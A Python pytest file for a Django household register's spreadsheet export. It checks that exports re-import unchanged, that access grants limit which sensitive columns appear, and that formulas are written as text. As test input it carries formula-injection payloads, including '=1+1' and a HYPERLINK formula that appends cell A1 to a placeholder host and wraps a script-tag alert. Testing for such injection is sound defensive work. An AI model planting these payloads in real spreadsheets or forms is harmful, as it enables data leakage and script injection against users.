"""Exports: what is written can be read again and says the same; only what the grants open is written."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command

from county import areas, household, households, person, write
from tuopin.platform.access import actor_for, local_admin
from tuopin.platform.catalogue import workbook_kinds
from tuopin.platform.models import Grant, User
from tuopin.platform.problems import Problem
from tuopin.register.exporting import export_workbook
from tuopin.register.importing.services import import_paths
from tuopin.register.models import AreaVersion, DataIssue, Household

pytestmark = pytest.mark.django_db(transaction=True)
DAY = date(2018, 12, 1)


def county(folder: Path) -> None:
    groups = [
        household("9901", person("990101"), person("990102", 与户主关系="之子", 证件号码="4.11423E+17")),
        household("9902", 工资性收入="一万二", 村="丙村委会", 镇="西乡", 户主姓名="=1+1"),
    ]
    village = {
        "县": "示范县",
        "镇": "东乡",
        "村": "甲村委会",
        "总人口数": "1000",
        "村级集体经济收入（万元）": "1.5",
        "是否通宽带": "是",
    }
    check = {
        "户编号": "9901",
        "户主姓名": "张三",
        "不愁吃": "是",
        "不愁穿": "",
        "核查日期": "2018-11-20",
        "核查人": "李四",
    }
    areas(folder)
    households(folder, *groups)
    write(folder / "村.csv", [village])
    write(folder / "核查.csv", [check])
    import_paths(local_admin(), [folder])


def exported(folder: Path) -> list[Path]:
    paths = [folder / f"{kind}.xlsx" for kind in ("household_person", "household_check", "village")]
    for path in paths:
        export_workbook(local_admin(), path, kind=path.stem, on=DAY)
    return paths


def test_an_export_imported_again_changes_nothing(tmp_path: Path) -> None:
    county(tmp_path / "in")
    report = import_paths(local_admin(), exported(tmp_path))
    assert report.rows == {"created": 0, "updated": 0, "unchanged": 5, "rejected": 0, "waiting": 0}
    assert report.issues == {"bad_number": ["9902"], "id_precision_lost": ["9901"]}


def test_an_export_into_an_empty_register_says_the_same(tmp_path: Path) -> None:
    county(tmp_path / "in")
    paths = exported(tmp_path)
    call_command("flush", interactive=False, verbosity=0)
    assert not Household.objects.exists()
    report = import_paths(local_admin(), [areas(tmp_path / "again"), *paths])
    assert (report.households_imported, report.persons_imported) == (2, 3)


def test_formulas_leave_as_text(tmp_path: Path) -> None:
    county(tmp_path / "in")
    sheet = openpyxl.load_workbook(exported(tmp_path)[0]).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "=1+1"]
    assert [cell.data_type for cell in cells] == ["s"]


def test_only_what_the_grants_open_is_written(tmp_path: Path) -> None:
    county(tmp_path / "in")
    clerk = User.objects.create(username="clerk")
    east = AreaVersion.objects.get(name="东乡")
    path = tmp_path / "out.xlsx"
    with pytest.raises(Problem):
        export_workbook(actor_for(clerk), path, kind="household_person", on=DAY)
    Grant.objects.create(user=clerk, role="township", scope_kind="area", scope_id=east.area_id, valid_from=DAY)
    assert export_workbook(actor_for(clerk), path, kind="household_person", on=DAY) == 2
    with pytest.raises(Problem):
        export_workbook(actor_for(clerk), path, kind="household_person", on=DAY, area_code="990101101000")


def test_a_kind_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    with pytest.raises(Problem) as caught:
        export_workbook(local_admin(), tmp_path / "x.xlsx", kind="divisions", on=DAY)
    assert caught.value.code == "no_such_export"


def columns(path: Path) -> set[object]:
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    return next(
        {cell.value for cell in row} for row in sheet.iter_rows(max_row=10) if "户主姓名" in {c.value for c in row}
    )


def test_classes_of_fields_that_are_not_open_over_the_place_stay_out(tmp_path: Path) -> None:
    county(tmp_path / "in")
    east, west = (AreaVersion.objects.get(name=name).area_id for name in ("东乡", "西乡"))
    clerk = User.objects.create(username="clerk")

    def grant(role: str, area: int, *classes: str) -> None:
        Grant.objects.create(
            user=clerk, role=role, scope_kind="area", scope_id=area, valid_from=DAY, field_classes=list(classes)
        )

    path = tmp_path / "out.xlsx"
    grant("headquarters", east)
    export_workbook(actor_for(clerk), path, kind="household_person", on=DAY)
    closed = {"证件号码", "健康状况", "银行账号(银行卡卡号)", "联系电话"}
    assert not closed & columns(path), "headquarters see general fields alone"
    grant("township", east, "health")
    export_workbook(actor_for(clerk), path, kind="household_person", on=DAY)
    assert {"证件号码", "健康状况"} <= columns(path)
    assert "银行账号(银行卡卡号)" not in columns(path)
    grant("township", west)
    assert export_workbook(actor_for(clerk), path, kind="household_person", on=DAY) == 3
    assert "证件号码" in columns(path)
    assert "健康状况" not in columns(path), "open over the one township says nothing about the other"
    east_code = AreaVersion.objects.get(name="东乡").code
    export_workbook(actor_for(clerk), path, kind="household_person", on=DAY, area_code=east_code)
    assert "健康状况" in columns(path)


HOSTILE = '=HYPERLINK("http://x.invalid/"&A1,"<script>alert(1)</script>")'


def formulas(path: Path) -> list[str]:
    """The cells of a workbook that a spreadsheet would work out; at least one cell must hold the hostile text."""
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    book.close()
    assert any(HOSTILE[:10] in str(cell.value) for cell in cells), path.name
    return [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_a_formula_in_any_cell_is_text_in_every_workbook(tmp_path: Path) -> None:
    """Every column of the national form is filled with it; what is not taken is written into the reject workbook."""
    kind = workbook_kinds()["household_person"]
    places = {"city", "county", "township", "village"}
    texts = {field.titles[0]: HOSTILE for field in kind.fields if field.type == "text" and field.name not in places}
    known = {"户编号", "人编号", "县", "镇", "村", "证件号码", "脱贫属性", "与户主关系"}
    hostile = {title: text for title, text in texts.items() if title not in known}
    assert {"户主姓名", "姓名"} <= set(hostile)
    sound = household("9901", person("990101", **{k: v for k, v in hostile.items() if k == "姓名"}), **{
        k: v for k, v in hostile.items() if k != "姓名"})  # fmt: skip
    refused = household("9902", person("990201", 姓名=HOSTILE), 村=HOSTILE)
    check = {"户编号": "9901", "户主姓名": HOSTILE, "不愁吃": "是", "核查日期": "2018-11-20", "核查人": HOSTILE}
    areas(tmp_path)
    households(tmp_path, sound, refused)
    write(tmp_path / "核查.csv", [check])
    report = import_paths(local_admin(), [tmp_path])
    assert DataIssue.objects.filter(code="too_long").count() > 3, "PostgreSQL would refuse them, and the whole import"
    for name in ("household_person", "household_check"):
        path = tmp_path / f"{name}.xlsx"
        export_workbook(local_admin(), path, kind=name, on=DAY)
        assert formulas(path) == []
    [rejects] = report.reject_workbooks
    assert formulas(Path(rejects)) == []
